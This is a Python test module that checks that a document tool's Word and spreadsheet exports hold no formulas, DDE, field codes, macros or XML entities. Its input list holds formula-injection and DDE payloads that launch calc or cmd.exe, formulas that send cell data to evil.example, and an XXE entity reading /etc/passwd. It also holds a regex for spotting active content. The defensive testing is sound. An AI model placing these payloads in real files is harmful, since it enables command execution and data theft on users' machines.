"""No file that people take away holds what a program on their machine would run, fetch or fill in."""

from __future__ import annotations

import re
import zipfile
from io import BytesIO
from pathlib import Path

from consult.core.text import normalise
from consult.documents.importers import read
from tests.documents.test_word_redline import made

from .test_bad_input import NAUGHTY
from .test_code import SOURCES

# What a spreadsheet or a word processor would calculate, fetch or run: formulas, DDE, field codes, entities.
FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+2+5+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"here")', '=WEBSERVICE("https://evil.example/"&A1)', "＝1+1", "\t=1+1",
    '=IMPORTXML(CONCAT("https://evil.example?v=",A1),"//a")', "=DDE(\"soffice\";\"x\";\"y\")", "{ INCLUDEPICTURE \"https://evil.example/a.png\" }",
    "{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\" }", "&xxe;", "]]><w:instrText>DDEAUTO</w:instrText><![CDATA[",
    "</w:t></w:r><w:fldSimple w:instr=\"DDEAUTO\"/><w:r><w:t>", "<!ENTITY a SYSTEM 'file:///etc/passwd'>",
]  # fmt: skip
RUNS = re.compile(
    r"<w:(fldSimple|fldChar|instrText|altChunk|object|control|subDoc|script|attachedTemplate)\b|<!DOCTYPE|<!ENTITY"
    r"|TargetMode=\"External\"|vbaProject|oleObject|<f>|<f "
)


def _draft(words: list[str], title: str) -> str:
    return f"# {title}\n\n" + "\n\n".join(f"Words before {one}\n\n> {one}" for one in words)


def test_no_export_holds_what_a_program_would_run() -> None:
    words = FORMULAS + [normalise(one) for one in NAUGHTY[:: len(NAUGHTY) // 60]]
    escaped = [re.sub(r"([\\`*_{}\[\]<>()#+.!|~&-])", r"\\\1", " ".join(one.split())) for one in words]
    old, new = (list(read(_draft(part, "A draft")).units) for part in (escaped[::2], escaped[1::2]))
    data = made(old, new, remarks=lambda row, is_technical: [words[row.fate == "added"], "=1+1"])
    with zipfile.ZipFile(BytesIO(data)) as packed:
        parts = {name: packed.read(name).decode() for name in packed.namelist()}
    assert "HYPERLINK" in "".join(parts.values()), "nothing hostile came in"
    assert {name: found[0] for name, part in parts.items() if (found := RUNS.search(part))} == {}


def test_there_are_no_other_files_for_such_programs() -> None:
    """The register is CSV and JSON (tests/outcomes/test_outcome.py); a new kind of file belongs in this module."""
    kinds = re.compile(r"spreadsheetml|ms-excel|opendocument\.spreadsheet|presentationml|ms-word|application/rtf")
    making = {path for path in SOURCES if kinds.search(path.read_text("utf-8"))}
    assert {path.as_posix() for path in making} <= {
        "consult/core/media.py", "consult/documents/importers/formats.py", "consult/documents/importers/ooxml_guard.py",
    }  # fmt: skip
    assert RUNS.search(Path("tests/shape/test_exports.py").read_text("utf-8")), "what runs is known when it is seen"
